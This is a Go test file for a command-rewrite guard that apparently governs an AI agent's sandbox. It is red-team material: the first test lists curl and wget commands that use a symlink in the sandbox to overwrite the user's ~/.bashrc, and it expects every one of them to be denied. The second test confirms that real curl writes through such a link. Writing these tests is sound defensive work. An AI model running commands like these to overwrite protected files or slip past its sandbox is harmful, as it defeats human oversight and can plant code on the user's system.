package rewrite

import (
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"testing"
)

// TestDownloadThroughSandboxLink (red team 14 SL1): a symbolic link in
// the sandbox, on disk or made earlier in the command, that leads to a
// protected file turns a download the rewrite moves there (curl -o, curl
// -O and wget's URL-derived names, --output-dir, -P) into a write of that
// file: denied. Downloads into an empty sandbox, and links to ordinary
// places, pass.
func TestDownloadThroughSandboxLink(t *testing.T) {
	t.Parallel()
	cfg := scratchProject(t, map[string]string{
		"proj/README.md":  "hi\n",
		"home/.bashrc":    "# rc\n",
		"proj/data/x.txt": "x\n",
	})
	sb := filepath.Join(filepath.Dir(cfg.Project), "proj", "agent_sandbox")
	if err := os.MkdirAll(sb, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(cfg.Home, ".bashrc"), filepath.Join(sb, "evil.sh")); err != nil {
		t.Fatal(err)
	}
	checkDecisions(t, cfg, []struct{ cmd, want string }{
		// A link on disk.
		{"curl -s -o evil.sh https://example.com/evil.sh", "deny"},
		{"curl -s -O https://example.com/evil.sh", "deny"},
		{"curl -s --remote-name https://example.com/d/evil.sh?x=1", "deny"},
		{"wget -q https://example.com/evil.sh", "deny"},
		{"wget -q -N https://example.com/evil.sh", "deny"},
		{"curl -s -o agent_sandbox/evil.sh https://example.com/x", "deny"},
		// A link this command makes first.
		{"ln -s ~/.bashrc agent_sandbox/e2.sh; curl -s https://example.com/e2.sh -o e2.sh", "deny"},
		{"ln -s ~/.bashrc agent_sandbox/e2.sh; curl -s -O https://example.com/e2.sh", "deny"},
		{"ln -s ~/.bashrc agent_sandbox/e2.sh; curl -s -o agent_sandbox/e2.sh https://example.com/x", "deny"},
		{"ln -s ~/.bashrc agent_sandbox/e; wget -q https://example.com/e", "deny"},
		// Look-alikes.
		{"curl -s -O https://example.com/other.sh", "rewrite"},
		{"wget -q https://example.com/other.sh", "rewrite"},
		{"curl -s -o agent_sandbox/other.sh https://example.com/x", "allow"},
		{"ln -s ../data agent_sandbox/data; curl -O https://example.com/a.tgz", "rewrite"},
		{"curl -s -O https://example.com/", "rewrite"},
	})
}

// TestCurlFollowsOutputLink: real curl writes through a symbolic link
// that stands where -O's URL-derived name puts its file in --output-dir:
// the link's target is overwritten (what TestDownloadThroughSandboxLink
// denies).
func TestCurlFollowsOutputLink(t *testing.T) {
	t.Parallel()
	curl, err := exec.LookPath("curl")
	if err != nil {
		t.Skip("curl not installed")
	}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte("downloaded\n"))
	}))
	defer srv.Close()
	dir := t.TempDir()
	canary := filepath.Join(dir, "canary")
	if err := os.WriteFile(canary, []byte("original\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	sb := filepath.Join(dir, "sb")
	if err := os.MkdirAll(sb, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(canary, filepath.Join(sb, "evil.sh")); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(curl, "-s", "--noproxy", "*", "--output-dir", sb, "-O", srv.URL+"/evil.sh")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	got, err := os.ReadFile(canary)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "downloaded\n" {
		t.Errorf("curl -O did not write through the link: canary holds %q", got)
	}
}
